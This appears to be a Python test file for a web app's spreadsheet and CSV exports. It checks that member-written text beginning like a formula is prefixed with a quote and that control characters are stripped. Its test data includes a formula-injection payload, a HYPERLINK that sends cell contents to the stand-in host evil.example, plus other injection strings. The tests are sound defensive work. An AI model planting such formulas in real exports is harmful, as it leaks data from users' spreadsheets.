"""Spreadsheets and CSV files that cannot attack their reader: text a member or an importer wrote that
starts like a formula (``= + - @``, tab, CR) is written with a leading ``'`` and stays text, and
characters XML cannot hold are removed, in the program report, the cluster bundles and the exports."""

from __future__ import annotations

import csv
import datetime as dt
import io

from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from techbridge.services.actor import operator
from techbridge.services.cooperations.pipeline import MoveRequest, move_cooperation
from techbridge.storage.db import transaction
from techbridge.storage.tables import Organization
from tests import factories
from tests.api.conftest import World

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _record_outcome(app: FastAPI, client: TestClient, world: World, description: str) -> None:
    """Record, as a member of coop-1 (an institute), an outcome with ``description``."""
    move_cooperation(app.state.core, operator("u-manager"), MoveRequest("coop-1", "introduced"))
    outcome = {"key": "startup-1", "kind": "startup", "occurred_on": dt.date.today().isoformat()}
    body = outcome | {"cooperation": "coop-1", "description": description}
    created = client.post("/api/v1/outcomes", headers=world.headers("partner"), json=body)
    assert created.status_code == 201, created.text


def _report_outcomes(client: TestClient, world: World) -> list[tuple[object, str]]:
    response = client.get("/api/v1/programs/p2021/report.xlsx", headers=world.headers("manager"))
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content))["Outcomes"]
    headers = [cell.value for cell in sheet[1]]
    column = headers.index("description")
    return [(line[column].value, line[column].data_type) for line in sheet.iter_rows(min_row=2)]


def test_an_outcome_description_is_never_a_formula_in_the_report(
    app: FastAPI, client: TestClient, world: World
) -> None:
    _record_outcome(app, client, world, FORMULA)
    assert _report_outcomes(client, world) == [("'" + FORMULA, "s")]


def test_a_control_character_in_an_outcome_does_not_break_the_report(
    app: FastAPI, client: TestClient, world: World
) -> None:
    _record_outcome(app, client, world, "광학\u0007 스핀오프\x1b")
    assert _report_outcomes(client, world) == [("광학 스핀오프", "s")]


def test_a_technology_title_is_never_a_formula_in_the_cluster_workbook(
    app: FastAPI, client: TestClient, world: World
) -> None:
    with transaction(app.state.engine) as session:
        kimm = session.query(Organization).filter_by(key="kr-kimm").one()
        factories.technology(session, "kr-formula", FORMULA, [kimm], codes=["G02B 1/04"])
        factories.technology(session, "kr-bell", "\u0007+라이다 렌즈", [kimm], codes=["G02B 1/04"])
    body = {"organizations": ["kr-kimm"], "k": 1}
    response = client.post("/api/v1/clusters?format=xlsx", headers=world.headers("admin"), json=body)
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content))["technologies"]
    titles = {line[1].value: (line[2].value, line[2].data_type) for line in sheet.iter_rows(min_row=2)}
    assert titles["kr-formula"] == ("'" + FORMULA, "s")
    assert titles["kr-bell"] == ("'+라이다 렌즈", "s")


def test_csv_and_xlsx_exports_neutralise_formulas(app: FastAPI, client: TestClient, world: World) -> None:
    names = {"kr-formula": FORMULA, "kr-plus": "+82 42 868 7114", "kr-at": "@SUM(1)", "kr-tab": "\t=1"}
    with transaction(app.state.engine) as session:
        for key, name in names.items():
            factories.organization(session, name, key=key)
        factories.organization(session, "-1+1 연구소\u0007", key="kr-minus")
    expected = {key: "'" + name for key, name in names.items()} | {"kr-minus": "'-1+1 연구소"}
    response = client.get("/api/v1/exports/organizations?format=csv", headers=world.headers("viewer"))
    assert response.status_code == 200, response.text
    rows = {row["key"]: row["name"] for row in csv.DictReader(io.StringIO(response.text))}
    assert {key: rows[key] for key in expected} == expected
    assert rows["kr-lms"] == "엘엠에스"  # other text is untouched

    response = client.get("/api/v1/exports/organizations?format=xlsx", headers=world.headers("viewer"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    headers = [cell.value for cell in sheet[1]]
    key, name = headers.index("key"), headers.index("name")
    cells = {line[key].value: line[name] for line in sheet.iter_rows(min_row=2)}
    assert {k: cells[k].value for k in expected} == expected
    assert {cells[k].data_type for k in expected} == {"s"}
